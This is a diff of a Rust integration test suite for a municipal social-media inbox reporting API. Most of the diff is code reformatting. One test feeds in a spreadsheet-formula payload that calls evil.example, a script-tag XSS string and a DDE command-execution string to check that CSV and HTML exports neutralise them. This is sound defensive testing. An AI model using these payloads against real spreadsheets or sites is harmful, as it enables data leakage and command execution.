@@ -104,36 +104,135 @@ async fn known_months(app: &TestApp) -> (String, String) {
         &admin,
         vec![
             // p1: answered in 30 minutes; next day two messages answered after 10 hours.
-            dm("d1", "inbound", "p1", "Hej, var hämtar jag soppåsar?", "2026-10-05T08:00:00Z"),
-            dm("d2", "outbound", "p1", "I receptionen.", "2026-10-05T08:30:00Z"),
-            dm("d3", "inbound", "p1", "Och tidningspapper?", "2026-10-06T08:00:00Z"),
+            dm(
+                "d1",
+                "inbound",
+                "p1",
+                "Hej, var hämtar jag soppåsar?",
+                "2026-10-05T08:00:00Z",
+            ),
+            dm(
+                "d2",
+                "outbound",
+                "p1",
+                "I receptionen.",
+                "2026-10-05T08:30:00Z",
+            ),
+            dm(
+                "d3",
+                "inbound",
+                "p1",
+                "Och tidningspapper?",
+                "2026-10-06T08:00:00Z",
+            ),
             dm("d4", "inbound", "p1", "Hallå?", "2026-10-06T08:10:00Z"),
-            dm("d5", "outbound", "p1", "Återvinningen.", "2026-10-06T18:00:00Z"),
+            dm(
+                "d5",
+                "outbound",
+                "p1",
+                "Återvinningen.",
+                "2026-10-06T18:00:00Z",
+            ),
             // p2: five minutes. p3: never answered.
-            dm("d6", "inbound", "p2", "Har biblioteket öppet i dag?", "2026-10-07T09:00:00Z"),
-            dm("d7", "outbound", "p2", "Ja, till 19.", "2026-10-07T09:05:00Z"),
-            dm("d8", "inbound", "p3", "Kan ni ringa mig?", "2026-10-08T10:00:00Z"),
+            dm(
+                "d6",
+                "inbound",
+                "p2",
+                "Har biblioteket öppet i dag?",
+                "2026-10-07T09:00:00Z",
+            ),
+            dm(
+                "d7",
+                "outbound",
+                "p2",
+                "Ja, till 19.",
+                "2026-10-07T09:05:00Z",
+            ),
+            dm(
+                "d8",
+                "inbound",
+                "p3",
+                "Kan ni ringa mig?",
+                "2026-10-08T10:00:00Z",
+            ),
             // p4: 23:30 on 31 October (winter time) is October; answered 2 hours later, in November.
-            dm("d9", "inbound", "p4", "Är återvinningen öppen i morgon?", "2026-10-31T23:30:00+01:00"),
+            dm(
+                "d9",
+                "inbound",
+                "p4",
+                "Är återvinningen öppen i morgon?",
+                "2026-10-31T23:30:00+01:00",
+            ),
             dm("d10", "outbound", "p4", "Ja.", "2026-11-01T01:30:00+01:00"),
             // p5: 23:30 on 30 September (summer time) is September; its answer is in October.
-            dm("d11", "inbound", "p5", "Hur söker jag bygglov?", "2026-09-30T23:30:00+02:00"),
-            dm("d12", "outbound", "p5", "På webben.", "2026-10-01T00:30:00+02:00"),
+            dm(
+                "d11",
+                "inbound",
+                "p5",
+                "Hur söker jag bygglov?",
+                "2026-09-30T23:30:00+02:00",
+            ),
+            dm(
+                "d12",
+                "outbound",
+                "p5",
+                "På webben.",
+                "2026-10-01T00:30:00+02:00",
+            ),
         ],
     )
     .await;
     let c = |id: &str, dir: &str, who: &str, text: &str, t: &str| {
-        msg(id, SKOLAN, "comment", dir, who, text, t, Some("skolan_post"))
+        msg(
+            id,
+            SKOLAN,
+            "comment",
+            dir,
+            who,
+            text,
+            t,
+            Some("skolan_post"),
+        )
     };
     ingest(
         app,
         &admin,
         vec![
-            c("c0", "inbound", "k0", "När öppnar simhallen igen?", "2026-09-15T10:00:00Z"),
-            c("c1", "inbound", "k1", "När öppnar simhallen igen?", "2026-10-10T10:00:00Z"),
-            c("c2", "inbound", "k2", "När öppnar simhallen igen efter renoveringen?", "2026-10-10T10:05:00Z"),
-            c("c3", "outbound", SKOLAN, "Den 1 december!", "2026-10-10T11:00:00Z"),
-            c("c4", "inbound", "k3", "När öppnar simhallen igen i höst?", "2026-10-12T10:00:00Z"),
+            c(
+                "c0",
+                "inbound",
+                "k0",
+                "När öppnar simhallen igen?",
+                "2026-09-15T10:00:00Z",
+            ),
+            c(
+                "c1",
+                "inbound",
+                "k1",
+                "När öppnar simhallen igen?",
+                "2026-10-10T10:00:00Z",
+            ),
+            c(
+                "c2",
+                "inbound",
+                "k2",
+                "När öppnar simhallen igen efter renoveringen?",
+                "2026-10-10T10:05:00Z",
+            ),
+            c(
+                "c3",
+                "outbound",
+                SKOLAN,
+                "Den 1 december!",
+                "2026-10-10T11:00:00Z",
+            ),
+            c(
+                "c4",
+                "inbound",
+                "k3",
+                "När öppnar simhallen igen i höst?",
+                "2026-10-12T10:00:00Z",
+            ),
         ],
     )
     .await;
@@ -150,7 +249,13 @@ async fn known_months(app: &TestApp) -> (String, String) {
     ingest(
         app,
         &admin,
-        vec![c("c5", "inbound", "troll", "Rektorn borde skämmas, jag vet var hon bor", "2026-10-20T10:00:00Z")],
+        vec![c(
+            "c5",
+            "inbound",
+            "troll",
+            "Rektorn borde skämmas, jag vet var hon bor",
+            "2026-10-20T10:00:00Z",
+        )],
     )
     .await;
     let communicator = app.token("comm", "communicator").await;
@@ -164,7 +269,9 @@ async fn known_months(app: &TestApp) -> (String, String) {
         )
         .await;
     assert_eq!(r.status(), 201);
-    let case: i64 = r.json::<Value>().await.unwrap()["case_id"].as_i64().unwrap();
+    let case: i64 = r.json::<Value>().await.unwrap()["case_id"]
+        .as_i64()
+        .unwrap();
     let r = app
         .post(
             &moderator,
@@ -221,23 +328,36 @@ on_both_backends!(
         assert_eq!(dm("questions"), f(json!(5), json!(1)));
         assert_eq!(dm("answered"), f(json!(4), json!(1)));
         // 300, 1800, 7200, 36000 seconds: median 4500, nearest-rank p90 36000.
-        assert_eq!(dm("first_response_median_seconds"), f(json!(4500), json!(3600)));
-        assert_eq!(dm("first_response_p90_seconds"), f(json!(36000), json!(3600)));
+        assert_eq!(
+            dm("first_response_median_seconds"),
+            f(json!(4500), json!(3600))
+        );
+        assert_eq!(
+            dm("first_response_p90_seconds"),
+            f(json!(36000), json!(3600))
+        );
         // Within 8 hours: 3 of 5 questions (the unanswered one counts against).
         assert_eq!(dm("within_service_level"), f(json!(0.6), json!(1)));
         // p1 resolved 36 hours after d1, p2 one hour after d6.
         assert_eq!(dm("resolved"), f(json!(2), json!(0)));
-        assert_eq!(dm("resolution_median_seconds"), f(json!(66600), Value::Null));
+        assert_eq!(
+            dm("resolution_median_seconds"),
+            f(json!(66600), Value::Null)
+        );
         assert_eq!(dm("resolution_p90_seconds"), f(json!(129600), Value::Null));
         assert_eq!(dm("waiting_on_person"), f(json!(1), json!(0)));
 
         let comments = |m: &str| figure(&report, "Skolan", "comments", m);
         assert_eq!(comments("inbound"), f(json!(4), json!(1)));
         assert_eq!(comments("replies"), f(json!(1), json!(0)));
-        // c1 (c2 continues it) answered after an hour, c4 and c5 unanswered; September's c0 too.
-        assert_eq!(comments("questions"), f(json!(3), json!(1)));
-        assert_eq!(comments("first_response_median_seconds"), f(json!(3600), Value::Null));
-        assert_eq!(comments("within_service_level"), f(json!(1.0 / 3.0), json!(0)));
+        // c1 (c2 continues it) answered after an hour; c4 unanswered (c5 continues it);
+        // September's c0 unanswered.
+        assert_eq!(comments("questions"), f(json!(2), json!(1)));
+        assert_eq!(
+            comments("first_response_median_seconds"),
+            f(json!(3600), Value::Null)
+        );
+        assert_eq!(comments("within_service_level"), f(json!(0.5), json!(0)));
         assert!(report["channels"]
             .as_array()
             .unwrap()
@@ -281,7 +401,10 @@ on_both_backends!(
         assert_eq!(m["police_reports"], f(json!(1), json!(0)));
         assert_eq!(m["hidden_off_hours"], f(json!(0), json!(0)));
         // From the comment at 10:00 to the moderator's step at 10:30.
-        assert_eq!(m["time_to_action_median_seconds"], f(json!(1800), Value::Null));
+        assert_eq!(
+            m["time_to_action_median_seconds"],
+            f(json!(1800), Value::Null)
+        );
 
         // Answering the question shows in the next report; the reading is audited.
         let cluster = top["cluster_id"].as_i64().unwrap();
@@ -311,11 +434,20 @@ on_both_backends!(
         // The quarter: July to September, against April to June.
         let q3 = app.get_json(&admin, "/api/v1/reports?period=2026Q3").await;
         assert_eq!(q3["period"]["start"], ms("2026-07-01T00:00:00+02:00"));
-        assert_eq!(figure(&q3, "Kommunen", "dm", "inbound"), f(json!(1), json!(0)));
+        assert_eq!(
+            figure(&q3, "Kommunen", "dm", "inbound"),
+            f(json!(1), json!(0))
+        );
         let q4 = app.get_json(&admin, "/api/v1/reports?period=2026Q4").await;
-        assert_eq!(figure(&q4, "Kommunen", "dm", "inbound"), f(json!(6), json!(1)));
+        assert_eq!(
+            figure(&q4, "Kommunen", "dm", "inbound"),
+            f(json!(6), json!(1))
+        );
         // d10 (1 November) is in the fourth quarter's replies.
-        assert_eq!(figure(&q4, "Kommunen", "dm", "replies"), f(json!(5), json!(0)));
+        assert_eq!(
+            figure(&q4, "Kommunen", "dm", "replies"),
+            f(json!(5), json!(0))
+        );
 
         // Nothing ranks staff: no staff member's name or id appears in the report.
         let text = again.to_string();
@@ -379,16 +511,44 @@ on_both_backends!(
     |app: TestApp| async move {
         let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"klicka\")";
         app.register_channel("facebook", KOMMUN, hostile).await;
-        app.register_channel("facebook", SKOLAN, "<script>alert(1)</script>").await;
+        app.register_channel("facebook", SKOLAN, "<script>alert(1)</script>")
+            .await;
         let admin = app.token("admin", "admin").await;
         let auditor = app.token("auditor", "auditor").await;
         ingest(
             &app,
             &admin,
             vec![
-                msg("h1", KOMMUN, "dm", "inbound", "p1", "Hej", "2026-10-05T08:00:00Z", None),
-                msg("h2", SKOLAN, "comment", "inbound", "p2", "@SUM(1+1)*cmd|' /C calc'!A0 ringer 070-123 45 67?", "2026-10-05T08:00:00Z", Some("<b>post</b>")),
-                msg("h3", SKOLAN, "comment", "inbound", "p3", "+46 70 123 45 67 vad gäller?", "2026-10-05T08:01:00Z", Some("<b>post</b>")),
+                msg(
+                    "h1",
+                    KOMMUN,
+                    "dm",
+                    "inbound",
+                    "p1",
+                    "Hej",
+                    "2026-10-05T08:00:00Z",
+                    None,
+                ),
+                msg(
+                    "h2",
+                    SKOLAN,
+                    "comment",
+                    "inbound",
+                    "p2",
+                    "@SUM(1+1)*cmd|' /C calc'!A0 ringer 070-123 45 67?",
+                    "2026-10-05T08:00:00Z",
+                    Some("<b>post</b>"),
+                ),
+                msg(
+                    "h3",
+                    SKOLAN,
+                    "comment",
+                    "inbound",
+                    "p3",
+                    "+46 70 123 45 67 vad gäller?",
+                    "2026-10-05T08:01:00Z",
+                    Some("<b>post</b>"),
+                ),
             ],
         )
         .await;
@@ -397,14 +557,20 @@ on_both_backends!(
             .get(&auditor, "/api/v1/reports?period=2026-10&format=csv")
             .await;
         assert_eq!(r.status(), 200);
-        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
+        assert!(r.headers()["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/csv"));
         assert!(r.headers()["content-disposition"]
             .to_str()
             .unwrap()
             .starts_with("attachment"));
         let csv = r.text().await.unwrap();
         let mut lines = csv.split("\r\n");
-        assert_eq!(lines.next(), Some("section,channel,kind,metric,value,previous"));
+        assert_eq!(
+            lines.next(),
+            Some("section,channel,kind,metric,value,previous")
+        );
         // The channel name is quoted (it has commas and quotes) and starts with a single quote.
         let expected = "channel,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"klicka\"\")\",dm,inbound,1,0";
         assert!(csv.contains(expected), "{csv}");
@@ -427,8 +593,14 @@ on_both_backends!(
             .await
             .unwrap();
         assert_eq!(r.status(), 200);
-        let csp = r.headers()["content-security-policy"].to_str().unwrap().to_string();
-        assert!(csp.starts_with("default-src 'none'; style-src 'sha256-"), "{csp}");
+        let csp = r.headers()["content-security-policy"]
+            .to_str()
+            .unwrap()
+            .to_string();
+        assert!(
+            csp.starts_with("default-src 'none'; style-src 'sha256-"),
+            "{csp}"
+        );
         assert!(!csp.contains("unsafe-inline") && !csp.contains("script-src"));
         let html = r.text().await.unwrap();
         assert!(html.starts_with("<!doctype html><html lang=\"en\">"));
@@ -445,7 +617,12 @@ on_both_backends!(
         assert!(sv.contains("lang=\"sv\"") && sv.contains("Direktmeddelanden"));
 
         // Bad periods and formats say what to do.
-        for bad in ["period=2026-13", "period=oktober", "period=2026-10&format=xlsx", "period=2026-10&lang=de"] {
+        for bad in [
+            "period=2026-13",
+            "period=oktober",
+            "period=2026-10&format=xlsx",
+            "period=2026-10&lang=de",
+        ] {
             let r = app.get(&auditor, &format!("/api/v1/reports?{bad}")).await;
             assert_eq!(r.status(), 400, "{bad}");
         }
